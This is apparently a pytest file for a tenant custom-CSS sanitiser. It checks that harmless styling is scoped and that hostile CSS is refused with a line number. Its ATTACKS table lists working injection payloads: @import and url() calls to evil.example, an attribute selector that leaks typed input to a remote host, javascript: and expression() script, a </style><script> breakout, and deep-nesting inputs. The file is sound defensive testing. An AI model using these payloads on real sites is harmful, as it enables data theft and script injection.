"""Custom CSS: looks pass, everything else is refused with its line, and nothing leaves the brand's places."""

import re

import pytest
import tinycss2
from hypothesis import given, settings
from hypothesis import strategies as st

from tenants.errors import CssRefused
from tenants.services import css


def test_looks_pass_below_the_scope():
    text = css.confine(
        "a:hover, .card > h2 { color: var(--brand-primary); padding: 4px 8px }\nbody { background: linear-gradient(#fff, #eee) }"
    )

    assert text == (
        f"    {css.SCOPE} a:hover, {css.SCOPE} .card > h2 {{ color: var(--brand-primary); padding: 4px 8px; }}\n"
        f"    {css.SCOPE} {{ background: linear-gradient(#fff, #eee); }}"
    )


def test_conditions_and_own_pictures_pass():
    text = css.confine("@media (width < 700px) { :root .logo { background-image: url('/brand/logo') } }")

    assert "@media (width < 700px) {" in text
    assert f"{css.SCOPE} .logo" in text


def test_nothing_is_nothing():
    assert css.confine("") == css.confine("  /* only words */ ") == ""


ATTACKS = {
    "import": "@import url(https://evil.example/x.css);",
    "import after escape": "@\\69mport 'https://evil.example/x.css';",
    "font": "@font-face { font-family: x; src: url(https://evil.example/x.woff) }",
    "namespace": "@namespace url(http://www.w3.org/1999/xhtml);",
    "layer": "@layer utilities { a { color: red } }",
    "keyframes": "@keyframes x { from { color: red } }",
    "property": "@property --x { syntax: '*'; inherits: false }",
    "foreign picture": "a { background: url(https://evil.example/p.png) }",
    "foreign picture without scheme": "a { background: url(//evil.example/p.png) }",
    "foreign picture with backslash": "a { background: url(/\\\\evil.example/p.png) }",
    "foreign picture escaped": "a { background: u\\72l(https://evil.example/p.png) }",
    "foreign picture in quotes": "a { background: url('https://evil.example/p.png') }",
    "foreign picture in a set": "a { background: image-set('https://evil.example/p.png' 1x) }",
    "foreign picture by src": "a { background: src('https://evil.example/p.png') }",
    "foreign picture in a variable": "a { --x: url(https://evil.example/p.png) }",
    "foreign picture in a fallback": "a { background: var(--x, url(https://evil.example/p.png)) }",
    "own address that does something": "a { background: url(/logout/) }",
    "script address": "a { background: url(javascript:alert(1)) }",
    "data address": "a { background: url(data:image/svg+xml,<svg/>) }",
    "reading what is typed": "input[value^='a'] { background: url(https://evil.example/a) }",
    "expression": "a { width: expression(alert(1)) }",
    "expression in a good property": "a { color: expression(alert(1)) }",
    "binding": "a { -moz-binding: url(x) }",
    "behaviour": "a { behavior: url(x.htc) }",
    "covering the page": "a { position: fixed }",
    "hiding": "a { display: none }",
    "hiding by opacity": "a { opacity: 0 }",
    "words that are not ours": "a::after { content: 'Pay here' }",
    "cursor": "a { cursor: url(x), auto }",
    "filter": "a { filter: url(#x) }",
    "important": "a { color: red !important }",
    "leaving the layer": "} body { color: red",
    "leaving by a bracket": "a) { color: red }",
    "leaving by a condition": "@media all } body { color: red }",
    "a rule in a rule": "a { & b { color: red } }",
    "parent of the scope": "> a { color: red }",
    "neighbour of the scope": "+ a { color: red }",
    "nesting sign": "& a { color: red }",
    "no selector": "{ color: red }",
    "empty selector in a list": "a,, b { color: red }",
    "attribute function": "a { color: attr(data-x) }",
    "element": "a { background: element(#x) }",
    "paint": "a { background: paint(x) }",
    "env": "a { padding: env(safe-area-inset-top) }",
    "condition with a function": "@supports (display: expression(1)) { a { color: red } }",
    "condition with an address": "@media url(https://evil.example) { a { color: red } }",
    "conditions in conditions": "@media all { @media all { a { color: red } } }",
    "html": "</style><script>alert(1)</script>",
    "unfinished string": "a { color: 'red }",
    "depth": "a { color: " + "calc(" * 200 + "1" + ")" * 200 + " }",
    "depth of selectors": ":not(" * 200 + "a" + ")" * 200 + " { color: red }",
    "depth of brackets": "a { color: " + "[" * 5000,
    "length": "a { color: red }" + " " * css.MAX_CHARACTERS,
    "number": "a{}" * (css.MAX_RULES + 1),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_not_looks_is_refused(attack):
    with pytest.raises(CssRefused) as refused:
        css.confine(ATTACKS[attack])

    assert refused.value.field == "custom_css"
    assert re.match(r"(Line|Linha) \d+: \S", str(refused.value))


def test_the_refusal_names_the_line():
    with pytest.raises(CssRefused) as refused:
        css.confine("a { color: red }\n\nb { color: blue;\n    position: fixed }")

    assert refused.value.params["line"] == 4


PIECES = st.lists(
    st.sampled_from(
        [
            "a",
            ".b",
            "#c",
            "{",
            "}",
            "(",
            ")",
            "[",
            "]",
            ";",
            ":",
            ",",
            ">",
            "@media",
            "@import",
            "color",
            "red",
            "url(",
            "'",
            '"',
            "\\",
            "/*",
            "*/",
            "\\7d ",
            "\\7b ",
            "<!--",
            "-->",
            "--x",
            "!important",
            "var(",
            "\n",
            " ",
            "\x00",
            "é",
            "https://evil.example",
            "body",
            "&",
            "\\",
            "\ud7ff",
        ]
    ),
    max_size=40,
).map("".join)


@settings(max_examples=400)
@given(PIECES | st.text(max_size=80))
def test_whatever_is_sent_stays_inside_the_layer(text):
    try:
        confined = css.confine(text)
    except CssRefused:
        return

    rules = tinycss2.parse_stylesheet(
        f"@layer brand {{\n{confined}\n}}\n.sentinel {{ color: red }}", skip_whitespace=True, skip_comments=True
    )
    assert [rule.type for rule in rules] == ["at-rule", "qualified-rule"]
    assert tinycss2.serialize(rules[1].prelude).strip() == ".sentinel"
    for rule in tinycss2.parse_rule_list(rules[0].content, skip_whitespace=True, skip_comments=True):
        assert rule.type in ("qualified-rule", "at-rule")
        if rule.type == "qualified-rule":
            assert tinycss2.serialize(rule.prelude).strip().startswith(css.SCOPE)
    assert "url(" not in confined
